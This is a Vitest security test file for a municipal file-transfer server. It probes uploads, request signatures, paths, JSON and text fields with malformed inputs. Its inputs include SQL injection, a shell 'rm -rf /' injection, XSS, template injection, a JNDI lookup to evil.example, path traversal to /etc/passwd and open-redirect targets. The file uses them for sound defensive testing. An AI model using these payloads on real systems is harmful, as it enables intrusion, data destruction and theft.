// Requests that no page and no client of ours makes: resumable uploads, signatures, targets, JSON and texts, each in one odd form.
import { randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Route } from '../../server/http/wire/route.ts';
import { routes } from '../../server/http/wire/routes.ts';
import { addPerson, draftFor, foundTown, type Town } from '../town.ts';
import { secondAdministrator, terminalOf, type TestTerminal } from '../http/terminal-lines.ts';
import { metadataOf, tusLine, type TusLine } from '../http/uploads/tus-line.ts';
import { head, kept, newestEntries, problemIn, raw } from './line.ts';

let town: Town;
let line: TusLine;
let terminal: TestTerminal;
let depositId = '';
const file = randomBytes(4_000);
const type = { 'content-type': 'application/offset+octet-stream' };

beforeAll(async () => {
  town = await foundTown({ policy: { locks: 'password' } });
  terminal = await terminalOf(town, 'send', await secondAdministrator(town));
  line = tusLine(town, town.sato);
  depositId = (await draftFor(town.sato, town, { recipientIds: [town.firm.id] })).id;
});
afterAll(async () => {
  expect(town.faults).toEqual([]);
  await town.close();
});
const begun = async (): Promise<string> => (await line.create({ depositId, filename: '名簿.csv' }, file.length)).path;

describe('a resumable upload', () => {
  it('takes no offset that is written in another way than as a plain number [H 118]', async () => {
    const path = await begun();
    await line.patch(path, 0, file.subarray(0, 10));
    for (const offset of ['1e1', '+10', '0xA', '10.0', '10, 10', '9007199254740993', '18446744073709551626', '１０']) {
      const said = await line.send('PATCH', path, { ...type, 'upload-offset': Buffer.from(offset).toString('latin1') }, file.subarray(10, 20)).catch(() => ({ status: 400 }));
      expect([offset, [400, 409].includes(said.status)]).toEqual([offset, true]);
    }
    expect(await line.offsetOf(path)).toBe(10);
  });

  it('is announced in few words: long, many and odd metadata are refused, and nothing is begun [H 119]', async () => {
    const before = await kept(town);
    const many = Array.from({ length: 200 }, (_, i) => `k${String(i)} dg==`).join(',');
    for (const metadata of [`${metadataOf({ depositId, filename: 'a.csv' })},${many}`, metadataOf({ depositId, filename: 'あ'.repeat(3_000) }), metadataOf({ depositId, filename: 'a.csv', ['x'.repeat(5_000)]: 'v' }), `depositId,filename`, `${metadataOf({ depositId, filename: 'a.csv' })},__proto__ ${'A'.repeat(3)}`]) {
      const said = await line.send('POST', '/api/uploads', { 'upload-length': '10', 'upload-metadata': metadata });
      expect([metadata.slice(0, 40), said.status < 500]).toEqual([metadata.slice(0, 40), true]);
      if (said.status === 201) await line.send('DELETE', new URL(said.headers.location ?? '').pathname);
    }
    expect(await kept(town)).toEqual(before);
  });

  it('is begun in no draft but one\'s own section\'s, whatever the id looks like [H 120]', async () => {
    const other = await town.admin.api.call('addSection', { body: { name: `別の課 ${randomBytes(2).toString('hex')}`, telephone: '03' } });
    const stranger = tusLine(town, await addPerson(town, town.admin, { role: 'staff', login: 'yoso', name: '余所 者', sectionId: other.id }));
    const answers = await Promise.all([stranger.create({ depositId, filename: 'a.csv' }, 10), stranger.create({ depositId: '0'.repeat(32), filename: 'a.csv' }, 10)]);
    expect(answers.map(({ said }) => [said.status, said.json['code']])).toEqual([[404, 'NOT_FOUND'], [404, 'NOT_FOUND']]);
    expect(answers[0].said.text).toBe(answers[1].said.text);
    for (const id of ['', "' OR 1=1 --", '../../x', depositId.toUpperCase(), `${depositId} `, '__proto__', '\0']) expect([id, (await line.create({ depositId: id, filename: 'a.csv' }, 10)).said.status]).toEqual([id, expect.toSatisfy((status: number) => status >= 400 && status < 500)]);
  });

  it('is not moved by parts without a byte, however many come [H 121]', async () => {
    const path = await begun();
    await line.patch(path, 0, file.subarray(0, 100));
    for (let i = 0; i < 10; i += 1) expect((await line.patch(path, 100, file.subarray(0, 0))).status).toBe(204);
    expect(await line.offsetOf(path)).toBe(100);
    expect((await line.patch(path, 100, file.subarray(100))).status).toBeLessThan(300);
  });

  it('that is ended while a part comes is gone, and leaves nothing behind [H 122]', async () => {
    const before = await kept(town);
    for (let turn = 0; turn < 5; turn += 1) {
      const path = await begun();
      const part = line.open(path, 0, file.length);
      await part.write(file.subarray(0, 1_000));
      const [ended] = await Promise.all([line.send('DELETE', path), part.write(file.subarray(1_000)).catch(() => undefined)]);
      await part.end().catch(() => undefined);
      if (ended.status !== 204) await line.send('DELETE', path);
      expect((await line.send('HEAD', path)).status === 404 || ended.status === 423).toBe(true);
    }
    for (const one of (await town.sato.api.call('deposit', { id: depositId })).transfers[0]?.files ?? []) if (one.name?.startsWith('名簿.csv') !== true) await town.sato.api.call('removeFile', { id: depositId, uploadId: one.uploadId });
    expect((await kept(town)).incoming).toBe(before.incoming);
  });
});

describe('a signed request', () => {
  const statusOf = async (headers: Record<string, string>, path = '/api/v1/session', init: RequestInit = {}): Promise<[number, string]> => {
    const answer = await fetch(`${terminal.origin}${path}`, { ...init, headers });
    return [answer.status, /"code":"([A-Z_]+)"/.exec(await answer.text())?.[1] ?? ''];
  };
  const url = () => `${terminal.origin}/api/v1/session`;

  it('is looked at by its signature alone: a good cookie beside a bad one opens nothing [H 123]', async () => {
    const signed = await terminal.line.sign('GET', url());
    const cookie = town.sato.line.headers()['cookie'] ?? '';
    const bad = { ...signed, signature: signed['signature']?.replace(/:.{4}/, ':AAAA') ?? '' };
    expect(await statusOf({ ...bad, cookie })).toEqual([401, 'SIGNATURE_REFUSED']);
    expect((await statusOf({ signature: 'x', cookie }))[0]).toBeGreaterThanOrEqual(400);
    expect((await statusOf({ 'signature-input': '', cookie }))[0]).toBeGreaterThanOrEqual(400);
    expect((await statusOf({ ...signed, cookie }))[0]).toBe(200);
  });

  it('has one signature with one input: two of either, or a member more, are none [H 124]', async () => {
    const one = await terminal.line.sign('GET', url());
    const other = await terminal.line.sign('GET', url());
    const [input = '', signature = ''] = [one['signature-input'], one['signature']];
    for (const [inputs, signatures] of [[`${input}, ${other['signature-input'] ?? ''}`, `${signature}, ${other['signature'] ?? ''}`], [`${input};x=1`, signature], [input.replace(';created', ';created=1;created'), signature], [input.replace('"@method"', '"@method";req'), signature], [`${input} `.repeat(50), signature], ['', signature], [input, ''], ['\u00e9', signature]] as const) {
      expect([inputs.slice(0, 30), (await statusOf({ ...one, 'signature-input': inputs, signature: signatures }))[0]]).toEqual([inputs.slice(0, 30), 401]);
    }
    expect((await statusOf(one))[0]).toBe(200);
  });

  it('of a body has its digest: none, another\'s, or another algorithm is refused [H 125]', async () => {
    const body = JSON.stringify({ engagementId: town.engagement.id, formId: '0'.repeat(32), recipientIds: [town.firm.id], quantity: 1 });
    const path = '/api/v1/deposits';
    const key = { 'idempotency-key': randomBytes(8).toString('hex') };
    const unsigned = await terminal.line.sign('POST', `${terminal.origin}${path}`, key);
    expect((await statusOf({ ...unsigned, ...key, 'content-type': 'application/json' }, path, { method: 'POST', body }))[1]).toBe('SIGNATURE_REFUSED');
    const signed = await terminal.line.sign('POST', `${terminal.origin}${path}`, key, body);
    for (const digest of ['md5=:AAAA:', `${signed['content-digest'] ?? ''}, sha-512=:AAAA:`, '']) expect([digest, (await statusOf({ ...signed, ...key, 'content-digest': digest, 'content-type': 'application/json' }, path, { method: 'POST', body }))[1]]).toEqual([digest, 'SIGNATURE_REFUSED']);
  });

  it('is of the very target: no other spelling of the path opens the same [H 126]', async () => {
    for (const path of ['/api/v1/%73ession', '/api//v1/session', '/api/v1/session/', '/api/v1/session?x', '/api/v1/./session', '/API/v1/session', '/api/v1/session;x']) {
      const signed = await terminal.line.sign('GET', url());
      const text = `GET ${path} HTTP/1.1\r\nhost: ${new URL(terminal.origin).host}\r\n${Object.entries(signed).map(([name, value]) => `${name}: ${value}\r\n`).join('')}\r\n`;
      const { status } = await raw(terminal.origin, text);
      expect([path, status]).toEqual([path, expect.toSatisfy((one: number) => one === 401 || one === 404)]);
    }
  });
});

describe('a request target', () => {
  it.each(['//evil.example/api/v1/session', '/\\evil.example', '/?next=https://evil.example', '/sign-in?next=//evil.example', '/api/v1/session?next=//evil.example', '/%2f%2fevil.example', '/..%2f..%2fetc/passwd', '/assets/../../package.json', '/%00', '*', 'evil'])('%s leads nowhere else and gives no file [H 72] [H 127] [ASVS 3.7.2] [ASVS 5.3.1]', async (target) => {
    for (const origin of [town.running.origins.ward, town.running.origins.contractor]) {
      const answer = await raw(origin, `GET ${target} HTTP/1.1\r\nhost: ${new URL(origin).host}\r\naccept: text/html\r\nconnection: close\r\n\r\n`);
      expect([answer.headers['location'], answer.status >= 400, answer.text.includes('"name": "kagibako"'), answer.text.includes('root:')]).toEqual([undefined, true, false, false]);
    }
  });

  it('of every route forbids framing, storing and telling others where one was, whether it is answered or refused [H 68] [H 69] [H 72] [ASVS 3.4.4] [ASVS 3.4.5] [ASVS 3.4.6] [ASVS 14.3.2]', async () => {
    const get = Object.values<Route>(routes).filter(({ method }) => method === 'GET');
    expect(get.length).toBeGreaterThan(60);
    for (const { path, sides } of get) {
      const who = sides.includes('ward') ? town.sato : town.tanaka;
      const { headers } = await raw(who.line.headers()['origin'] ?? '', head(who, 'GET', `/api/v1${path.replace(/\*place/, '000').replace(/:week/, '2026-06-29').replace(/:\w+/g, '0'.repeat(32))}`, { connection: 'close' }));
      const policy = headers['content-security-policy'] ?? '';
      expect([path, headers['cache-control']?.includes('no-store'), headers['x-frame-options'], policy.includes("frame-ancestors 'none'"), headers['referrer-policy'], headers['x-content-type-options']]).toEqual([path, true, 'DENY', true, 'no-referrer', 'nosniff']);
    }
  });
});

describe('ids and addresses', () => {
  it('hold nothing secret: ids are 128 random bits, and no route asks for a password or token in its address [H 69] [ASVS 11.5.1] [ASVS 14.2.1]', async () => {
    const drafts = await Promise.all(Array.from({ length: 8 }, () => draftFor(town.sato, town, { recipientIds: [town.firm.id] })));
    const ids = drafts.flatMap(({ id, transfers }) => [id, ...transfers.map((one) => one.id)]);
    for (const id of ids) expect(id).toMatch(/^[0-9a-f]{32}$/);
    // Random in every place: no two share a beginning, an end or a middle.
    for (const part of [0, 12, 24]) expect(new Set(ids.map((id) => id.slice(part, part + 8))).size).toBe(ids.length);
    for (const { path, query } of Object.values<Route>(routes)) expect(`${(path.match(/:\w+/g) ?? []).join(' ')} ${Object.keys((query as { shape?: object } | undefined)?.shape ?? {}).join(' ')}`).not.toMatch(/password|token|secret|login/i);
    for (const { id } of drafts) await town.sato.api.call('discard', { id });
  });
});

describe('a body of JSON', () => {
  const post = (body: Uint8Array | string, contentType = 'application/json') => {
    const bytes = Buffer.from(body as string);
    return raw(town.running.origins.ward, Buffer.concat([Buffer.from(head(town.takahashi, 'POST', '/api/v1/notices', { 'content-type': contentType, 'content-length': String(bytes.length) })), bytes]));
  };
  it('is UTF-8 and nothing else: a mark, UTF-16, NUL and broken bytes are refused, and never answered with a fault [H 128]', async () => {
    const good = '{"transferIds":[]}';
    for (const body of [Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(good)]), Buffer.from(good, 'utf16le'), Buffer.from(`${good}\0`), Buffer.from([0x7b, 0xff, 0xfe, 0x7d]), Buffer.from('{"transferIds":["\xc3\x28"]}', 'latin1')]) {
      expect([body.toString('hex').slice(0, 20), (await post(body)).status]).toEqual([body.toString('hex').slice(0, 20), 400]);
    }
    for (const charset of ['utf-7', 'shift_jis', 'utf-16', 'x; charset=utf-8', '__proto__']) expect([charset, (await post(good, `application/json; charset=${charset}`)).status]).toEqual([charset, expect.toSatisfy((status: number) => [400, 415].includes(status))]);
  });

  it('names each key once, also where one is written with escapes [H 129] [ASVS 1.5.3] [ASVS 15.3.6] [ASVS 15.3.7]', async () => {
    for (const body of ['{"transferIds":["0"],"\\u0074ransferIds":["1"]}', '{"a":{"\\u005f_proto__":1}}', '{"__proto__":{"x":1}}', '{"constructor":1,"transferIds":["0"]}']) expect([body, problemIn(await post(body)).code]).toEqual([body, 'INVALID_REQUEST']);
  });

  it('has numbers that are what they say: none is rounded, negative, or written as text [H 130] [ASVS 1.4.2] [ASVS 2.2.1] [ASVS 15.3.5]', async () => {
    const form = town.engagement.forms[0]?.id ?? '';
    for (const quantity of ['9007199254740993', '1e3000', '-0', '-1', '0', '1.5', '"3"', '[3]', 'true', '1e99', '0x10', '03']) {
      const body = `{"engagementId":"${town.engagement.id}","formId":"${form}","recipientIds":["${town.firm.id}"],"quantity":${quantity}}`;
      const answer = await raw(town.running.origins.ward, head(town.sato, 'POST', '/api/v1/deposits', { 'content-type': 'application/json', 'content-length': String(body.length), 'idempotency-key': randomBytes(8).toString('hex') }) + body);
      expect([quantity, answer.status]).toEqual([quantity, 400]);
    }
  });

  it('asks for its key against doubles in one plain form [H 131]', async () => {
    const body = JSON.stringify({ engagementId: town.engagement.id, formId: town.engagement.forms[0]?.id ?? '', recipientIds: [town.firm.id], quantity: 1 });
    for (const key of ['', 'short', 'x'.repeat(201), 'with a space in it', 'kéy-kéy-kéy']) {
      const answer = await raw(town.running.origins.ward, Buffer.from(head(town.sato, 'POST', '/api/v1/deposits', { 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(body)), 'idempotency-key': key }) + body, 'latin1'));
      expect([key.slice(0, 20), problemIn(answer).code]).toEqual([key.slice(0, 20), 'IDEMPOTENCY_KEY_MISSING']);
    }
  });

  it('names no instant that is none, and no year that no calendar has [H 132] [ASVS 2.2.1]', async () => {
    for (const at of ['2026-02-30T00:00:00.000Z', '2026-07-02', '2026-07-02T05:00:00+09:00x', '+275760-09-13T00:00:00.000Z', '-000001-01-01T00:00:00Z', '0000-00-00T00:00:00.000Z', '2026-07-02T24:00:01.000Z', '2026-07-02T05:00:60.000Z', 'now', '']) {
      const failed = await town.sato.api.call('handover', { id: '0'.repeat(32), body: { method: 'in-person', to: town.tanaka.id, at } }).then(() => 'done', (error: unknown) => (error as { problem?: { code: string } }).problem?.code ?? 'fault');
      expect([at, failed]).toEqual([at, expect.toSatisfy((code: string) => code === 'INVALID_REQUEST' || code === 'NOT_FOUND')]);
    }
    for (const lastDay of ['2026-02-30', '2026-13-01', '9999-12-32', '2026-7-1']) await expect(town.admin.api.call('registerUnattended', { body: { name: 'x', publicKey: `ed25519:${randomBytes(32).toString('base64')}`, scope: 'send', responsibleId: town.sato.id, engagementIds: [town.engagement.id], lastDay } })).rejects.toMatchObject({ problem: { code: 'INVALID_REQUEST' } });
  });
});

describe('a text', () => {
  const evil = ["'); DROP TABLE transfers; --", "' OR '1'='1", '"; rm -rf / ; `id` $(id)', '{{7*7}}${7*7}<%= 7*7 %>#{7*7}', '<img src=x onerror=alert(1)><script>alert(1)</script>', '%s%n%x {0} {id} {retryAfterSeconds}', '${jndi:ldap://evil.example/a}', '=cmd|\'/c calc\'!A0', '*)(uid=*', "x' UNION SELECT password_hash FROM accounts --"];

  it.each(evil)('%s is stored as it is, in every field that takes a line, and runs nowhere [H 62] [ASVS 1.1.2] [ASVS 1.2.4]', async (text) => {
    const unique = `${text} ${randomBytes(3).toString('hex')}`.slice(0, 80);
    const section = await town.admin.api.call('addSection', { body: { name: unique, telephone: '03-0000' } });
    const firm = await town.admin.api.call('addContractor', { body: { name: unique, address: unique } });
    const account = (await town.admin.api.call('addAccount', { body: { role: 'auditor', login: `a${randomBytes(4).toString('hex')}`, name: unique } })).account;
    const [sections, contractors, accounts] = await Promise.all([town.admin.api.call('sections', {}), town.admin.api.call('contractors', {}), town.admin.api.call('accounts', {})]);
    expect([sections.find(({ id }) => id === section.id)?.name, contractors.find(({ id }) => id === firm.id)?.name, accounts.find(({ id }) => id === account.id)?.name]).toEqual([unique, unique, unique]);
    // In a query and as a login it finds nothing and breaks nothing.
    expect((await raw(town.running.origins.ward, head(town.sato, 'GET', `/api/v1/transfers?state=${encodeURIComponent(text)}`))).status).toBe(400);
  });

  it.each(['a\r\nb', 'a\nforged-entry', 'a\u001b[2Jb', 'a\u0000b', 'a\u2028b', 'a\u0085b', '\ud800'])('with a line break or a control character (%j) is refused, and forges no line of the access log [H 62] [ASVS 1.3.3] [ASVS 16.4.1]', async (text) => {
    const code = await town.admin.api.call('addSection', { body: { name: text, telephone: '03' } }).then((made) => (made as unknown as { name?: string }).name ?? 'made', (error: unknown) => (error as { problem?: { code: string } }).problem?.code ?? 'fault');
    expect([JSON.stringify(text), code]).toEqual([JSON.stringify(text), 'INVALID_REQUEST']);
    await raw(town.running.origins.ward, Buffer.from(`GET /${encodeURIComponent(text.replace('\ud800', ''))} HTTP/1.1\r\nhost: ${new URL(town.running.origins.ward).host}\r\nuser-agent: x\r\nconnection: close\r\n\r\n`));
    town.time.advance(1);
    await town.running.gateway.tick();
    const log = await readFile(join(town.settings.dataFolder, 'access.log'), 'utf8');
    for (const one of log.trimEnd().split('\n')) expect(Object.keys(JSON.parse(one) as object)).toEqual(['at', 'side', 'kind', 'address']);
    expect((await newestEntries(town, 1)).join('')).not.toContain('forged');
  });
});
